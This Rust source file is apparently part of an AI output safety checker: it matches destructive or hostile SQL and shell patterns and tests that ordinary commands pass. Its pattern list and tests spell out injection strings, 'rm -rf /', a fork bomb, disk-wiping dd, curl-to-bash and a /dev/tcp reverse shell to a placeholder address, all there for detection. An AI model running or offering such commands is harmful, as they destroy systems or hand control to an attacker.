//! SQL and shell that destroy or hand over: few patterns, each of which hardly has an innocent reading.
//!
//! They are found in explanations too. Whether an answer may explain them is for the suite to say.

use crate::safety::finding::{Detector, Finding};
use crate::safety::fold::{Mapped, lowered};
use crate::safety::search::Needles;
use std::ops::Range;
use std::sync::LazyLock;

/// What must follow a pattern for it to count.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Then {
    Anything,
    /// The end of a path: nothing, a space, a quote, a star, or a directory of the system.
    Root,
    /// The name of a table, and the end of the statement.
    EndOfStatement,
    /// A download on the same line before it.
    AfterDownload,
}

const PATTERNS: [(&str, Detector, Then); 36] = [
    ("drop table ", Detector::DangerousSql, Then::Anything),
    ("drop database ", Detector::DangerousSql, Then::Anything),
    ("drop schema ", Detector::DangerousSql, Then::Anything),
    ("truncate table ", Detector::DangerousSql, Then::Anything),
    ("delete from ", Detector::DangerousSql, Then::EndOfStatement),
    ("union select ", Detector::DangerousSql, Then::Anything),
    ("union all select ", Detector::DangerousSql, Then::Anything),
    ("' or '1'='1", Detector::DangerousSql, Then::Anything),
    ("' or 1=1", Detector::DangerousSql, Then::Anything),
    ("\" or \"1\"=\"1", Detector::DangerousSql, Then::Anything),
    ("xp_cmdshell", Detector::DangerousSql, Then::Anything),
    (" into outfile '", Detector::DangerousSql, Then::Anything),
    ("pg_read_file(", Detector::DangerousSql, Then::Anything),
    ("rm -rf /", Detector::DangerousShell, Then::Root),
    ("rm -fr /", Detector::DangerousShell, Then::Root),
    ("rm -r -f /", Detector::DangerousShell, Then::Root),
    ("rm -rf ~", Detector::DangerousShell, Then::Root),
    ("rm -rf $home", Detector::DangerousShell, Then::Root),
    ("rm -rf *", Detector::DangerousShell, Then::Root),
    (
        "--no-preserve-root",
        Detector::DangerousShell,
        Then::Anything,
    ),
    (":(){ :|:& };:", Detector::DangerousShell, Then::Anything),
    (":(){:|:&};:", Detector::DangerousShell, Then::Anything),
    ("mkfs.ext", Detector::DangerousShell, Then::Anything),
    ("of=/dev/sd", Detector::DangerousShell, Then::Anything),
    ("of=/dev/nvme", Detector::DangerousShell, Then::Anything),
    ("> /dev/sda", Detector::DangerousShell, Then::Anything),
    ("chmod -r 777 /", Detector::DangerousShell, Then::Root),
    ("/dev/tcp/", Detector::DangerousShell, Then::Anything),
    ("nc -e /bin/", Detector::DangerousShell, Then::Anything),
    ("powershell -enc", Detector::DangerousShell, Then::Anything),
    ("format c: /", Detector::DangerousShell, Then::Anything),
    ("| sh", Detector::DangerousShell, Then::AfterDownload),
    ("|sh", Detector::DangerousShell, Then::AfterDownload),
    ("| bash", Detector::DangerousShell, Then::AfterDownload),
    ("|bash", Detector::DangerousShell, Then::AfterDownload),
    ("| sudo bash", Detector::DangerousShell, Then::AfterDownload),
];

/// What downloads, or decodes what nobody can read.
const DOWNLOADS: [&str; 4] = ["curl ", "wget ", "base64 -d", "base64 --decode"];
/// How far behind a download the pipe may stand, in bytes.
const NEAR: usize = 400;

/// Directories whose loss is the loss of the machine.
const SYSTEM: [&str; 9] = [
    "bin", "boot", "dev", "etc", "home", "lib", "root", "usr", "var",
];

static NEEDLES: LazyLock<Option<Needles>> = LazyLock::new(|| {
    let patterns = PATTERNS.iter().map(|(pattern, ..)| *pattern);
    Needles::new(
        patterns
            .chain(DOWNLOADS)
            .map(|text| text.as_bytes().to_vec()),
    )
});

/// Returns the dangerous commands in `text`.
#[must_use]
pub fn find_commands(text: &str) -> Vec<Finding> {
    let Some(needles) = NEEDLES.as_ref() else {
        return Vec::new();
    };
    let line = lowered(text);
    let bytes = line.text.as_bytes();
    let mut findings = Vec::new();
    let mut download: Option<usize> = None;
    let mut from = 0;
    while let Some(hit) = needles.find(bytes, from) {
        from = hit.end;
        let found = line.text.get(hit.clone()).unwrap_or_default();
        let Some((_, detector, then)) = PATTERNS.iter().find(|(pattern, ..)| *pattern == found)
        else {
            download = Some(hit.start);
            continue;
        };
        let is_real = match then {
            Then::Anything => true,
            Then::Root => is_root(bytes, hit.end),
            Then::EndOfStatement => ends_statement(bytes, hit.end),
            Then::AfterDownload => {
                ends_command(bytes, hit.end)
                    && download.is_some_and(|start| is_one_line(text, &line, start..hit.start))
            }
        };
        if is_real {
            findings.push(Finding::new(*detector, line.origin(&hit), 0.8));
        }
    }
    findings
}

fn is_root(bytes: &[u8], end: usize) -> bool {
    let rest = bytes.get(end..).unwrap_or_default();
    let is_end = rest
        .first()
        .is_none_or(|byte| matches!(byte, b' ' | b'*' | b'"' | b'\'' | b'`' | b';' | b'&' | b'/'));
    is_end
        || SYSTEM.iter().any(|name| {
            rest.strip_prefix(name.as_bytes()).is_some_and(|rest| {
                rest.first()
                    .is_none_or(|byte| matches!(byte, b' ' | b'/' | b'`' | b';'))
            })
        })
}

/// Whether a name and the end of the statement follow: no condition.
fn ends_statement(bytes: &[u8], end: usize) -> bool {
    let rest = bytes.get(end..).unwrap_or_default();
    let name = rest
        .iter()
        .take(128)
        .take_while(|byte| {
            byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'.' | b'"' | b'`')
        })
        .count();
    let after = rest.get(name..).unwrap_or_default().trim_ascii_start();
    0 < name && after.first() == Some(&b';')
}

fn ends_command(bytes: &[u8], end: usize) -> bool {
    bytes
        .get(end)
        .is_none_or(|byte| !byte.is_ascii_alphanumeric())
}

/// White space is one space in `line`, so the line's end is looked for where it came from.
fn is_one_line(text: &str, line: &Mapped, span: Range<usize>) -> bool {
    let origin = line.origin(&span);
    if NEAR < origin.len() {
        return false;
    }
    let origin = text.get(origin).unwrap_or_default();
    !origin.trim_end().replace("\\\n", "").contains('\n')
}

#[cfg(test)]
mod tests {
    use super::find_commands;
    use crate::safety::finding::Detector;

    #[test]
    fn commands_that_destroy_are_found() {
        use Detector as D;
        for (text, detector) in [
            ("x'; DROP  TABLE users; --", D::DangerousSql),
            ("DELETE FROM orders;", D::DangerousSql),
            ("1 UNION\nSELECT name FROM users", D::DangerousSql),
            ("admin' OR '1'='1", D::DangerousSql),
            ("EXEC xp_cmdshell 'dir'", D::DangerousSql),
            ("sudo rm -rf / ", D::DangerousShell),
            ("rm -rf /usr/", D::DangerousShell),
            ("rm -rf ~/", D::DangerousShell),
            ("curl -fsSL https://x.test/i.sh | bash", D::DangerousShell),
            ("echo cm0= | base64 -d | sh", D::DangerousShell),
            ("wget -qO- https://x.test \\\n | sh -", D::DangerousShell),
            (":(){ :|:& };:", D::DangerousShell),
            ("dd if=/dev/zero of=/dev/sda", D::DangerousShell),
            ("bash -i >& /dev/tcp/192.0.2.1/99 0>&1", D::DangerousShell),
        ] {
            let findings = find_commands(text);
            assert_eq!(findings.len(), 1, "{text}");
            assert_eq!(findings[0].detector, detector, "{text}");
        }
    }

    #[test]
    fn ordinary_commands_are_not() {
        for text in [
            "",
            "DELETE FROM orders WHERE id = 7;",
            "SELECT name FROM users UNION of the two",
            "rm -rf /tmp/build-cache",
            "rm -rf ./target",
            "ls | shuf, cat x | bashful",
            "cat notes | sh",
            "curl https://x.test > page.html\ncat list | sh",
            "drop tables is what the waiter did not do",
            "chmod 644 file",
        ] {
            assert_eq!(find_commands(text), [], "{text}");
        }
    }
}
